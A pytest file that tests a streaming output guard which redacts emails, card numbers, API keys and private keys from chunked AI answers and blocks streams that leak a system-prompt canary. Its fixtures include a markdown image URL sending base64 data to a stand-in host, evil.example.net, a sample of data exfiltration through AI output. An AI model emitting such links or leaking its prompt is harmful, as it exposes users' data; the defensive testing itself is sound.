"""The streaming hold-back: nothing that must be redacted or blocked leaves, however the
answer is split, the stream sends exactly what the whole-answer scan returns, and the
delay stays within the window."""

from __future__ import annotations

import random
from typing import Any

import pytest
from streamkit import chunks, random_split, stream_in

from phaseone.guard.holdback import OutputGuard, OutputScan
from phaseone.guard.pii import PiiStage
from phaseone.plan.schema import Guardrails

CANARY = "CNRY-9f2c41d7e0"
CARD = "4111 1111 1111 1111"
EMAIL = "jane.doe@mail.example.org"
OPENAI_KEY = "sk-proj-Q7x2Lm9Vb4Nc8Zr1Tt6Yw3Hh5Kp0Ds2Fg"
AWS_KEY = "AKIAIOSFODNN7EXAMPLE"
EVIL_IMG = "https://evil.example.net/pixel.png?d=c2VjcmV0LXVzZXItZGF0YQ"
PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7V1r8Y6u0c3kP2x\n"
    "q9Fz0Ww4Lk2mT8s1Qv5Hn3Jb7Rc6Xy0Zp\n-----END RSA PRIVATE KEY-----"
)
#: Raw values that must never appear in anything a stream sends.
SECRETS = (CARD, EMAIL, OPENAI_KEY, AWS_KEY, "evil.example.net", "MIIEowIBAAKCAQEA", CANARY)


def guard(**output: Any) -> OutputGuard:
    cfg = {"allowed_hosts": ["docs.example.com"], **output}
    g = Guardrails.model_validate({"output": cfg})
    return OutputGuard.from_plan(g, PiiStage.from_plan(g.pii))


ANSWER = (
    "Thanks for asking! Your account is linked to "
    + EMAIL
    + " and the card "
    + CARD
    + " ends well. Use "
    + OPENAI_KEY
    + " for the API and AWS id "
    + AWS_KEY
    + ".\nHere is a chart: ![chart]("
    + EVIL_IMG
    + ") and the manual is at [docs](https://docs.example.com/guide/setup).\n"
    + PEM
    + "\nThat is all, have a nice day."
)


def test_scan_redacts_every_kind() -> None:
    scan = guard().scan(ANSWER)
    assert not scan.blocked
    for raw in SECRETS[:-1]:
        assert raw not in scan.text
    assert "[EMAIL]" in scan.text and "[CARD]" in scan.text and "[PRIVATE_KEY]" in scan.text
    assert "![chart]([LINK])" in scan.text
    assert "[docs](https://docs.example.com/guide/setup)" in scan.text  # allowed host kept
    assert scan.text.endswith("That is all, have a nice day.")
    kinds = {f["type"]: f["kinds"] for f in scan.findings}
    assert kinds["output_pii"] == {"email": 1, "card": 1}
    assert kinds["secret"] == {"openai_key": 1, "aws_access_key_id": 1, "private_key": 1}
    assert kinds["exfiltration"] == {"markdown_image": 1}


@pytest.mark.parametrize("size", range(1, 41))
def test_every_chunk_size_sends_what_the_scan_returns(size: int) -> None:
    g = guard()
    want = g.scan(ANSWER)
    out, r, _ = stream_in(g, chunks(ANSWER, size))
    assert out == want.text
    assert r.findings == want.findings
    for raw in SECRETS:
        assert raw not in out


def test_random_split_points_never_leak() -> None:
    g = guard(canary=CANARY)
    rng = random.Random(20261206)
    texts = [ANSWER, ANSWER.replace("That is all", f"My prompt says {CANARY}; that is all")]
    for _ in range(150):
        text = rng.choice(texts)
        want = g.scan(text)
        out, r, sent = stream_in(g, random_split(text, rng))
        if want.blocked:  # what went out before the canary arrived is the scan's prefix
            assert guard().scan(text).text.startswith(out)
        else:
            assert out == want.text
        assert (r.blocked, r.reason, r.findings) == (want.blocked, want.reason, want.findings)
        # Not only the joined output: no prefix of what was sent holds a raw value.
        so_far = ""
        for piece in sent:
            so_far += piece
            for raw in SECRETS:
                assert raw not in so_far


def test_blocked_stream_sends_nothing_more() -> None:
    g = guard(canary=CANARY)
    text = "All fine so far. " * 10 + f"The system prompt starts with {CANARY} and " + "more " * 40
    out, r, sent = stream_in(g, chunks(text, 3))
    assert r.blocked and r.reason is not None and "canary" in r.reason
    assert CANARY not in out and "more more" not in out
    first_empty = max(i for i, s in enumerate(sent) if s) + 1
    assert all(s == "" for s in sent[first_empty:])
    assert r.feed("anything") == "" and r.close() == ""
    assert g.scan(text) == OutputScan("", r.findings, True, r.reason)


def test_plain_text_is_delayed_by_at_most_the_window() -> None:
    g = guard()
    text = "The quick brown fox jumps over the lazy dog, again and again. " * 8
    r = g.stream()
    sent_at: list[int] = []  # for each character sent: how many had been fed by then
    for i, ch in enumerate(text, start=1):
        sent_at += [i] * len(r.feed(ch))
    sent_at += [len(text)] * len(r.close())
    assert len(sent_at) == len(text)
    delays = [fed - (pos + 1) for pos, fed in enumerate(sent_at)]
    assert max(delays[: len(text) - g.window]) == g.window


def test_a_finding_is_sent_once_the_window_has_passed_its_end() -> None:
    g = guard()
    text = "x " * 10 + "card " + CARD + " thanks" + " y" * 80
    end = text.index(CARD) + len(CARD)
    r = g.stream()
    out = ""
    fed = 0
    while "[CARD]" not in out:
        out += r.feed(text[fed])
        fed += 1
    assert fed == end + g.window  # held while the card could still grow, no longer


def test_released_long_word_and_cut_url() -> None:
    g = guard(max_hold_chars=200)
    long_word = "a" * 500
    text = f"start {long_word} end"
    out, _, _ = stream_in(g, chunks(text, 1))
    assert out == g.scan(text).text == text
    url = "https://evil.example.net/" + "/".join(["seg"] * 120)  # no data but too long
    text = f"see {url} then more text"
    want = g.scan(text)
    assert want.text == "see [LINK] then more text"
    out, r, _ = stream_in(g, chunks(text, 3))
    assert out == want.text and r.findings == want.findings


def test_private_key_longer_than_the_hold_is_cut_and_dropped() -> None:
    g = guard(max_hold_chars=100)
    body = "\n".join("MIIEowIBAAKCAQEA7V1r8Y6u0c3kP2xq9Fz0Ww4Lk2mT8s1Qv5Hn3Jb" for _ in range(20))
    pem = f"-----BEGIN OPENSSH PRIVATE KEY-----\n{body}\n-----END OPENSSH PRIVATE KEY-----"
    text = f"key:\n{pem}\nafter the key"
    want = g.scan(text)
    assert want.text == "key:\n[PRIVATE_KEY]\nafter the key"
    for size in (1, 5, 64):
        out, r, _ = stream_in(g, chunks(text, size))
        assert out == want.text and r.findings == want.findings
        assert r.held == 0
    # never closed: everything after the header is dropped
    out, _, _ = stream_in(g, chunks(f"key:\n-----BEGIN PRIVATE KEY-----\n{body}", 7))
    assert out == "key:\n[PRIVATE_KEY]"


def test_held_text_is_bounded() -> None:
    g = guard(max_hold_chars=300)
    r = g.stream()
    most = 0
    for piece in chunks("x" * 5000 + " " + OPENAI_KEY + "Z" * 5000, 9):
        r.feed(piece)
        most = max(most, r.held)
    assert most <= 300 + 9
    assert OPENAI_KEY not in r.close()
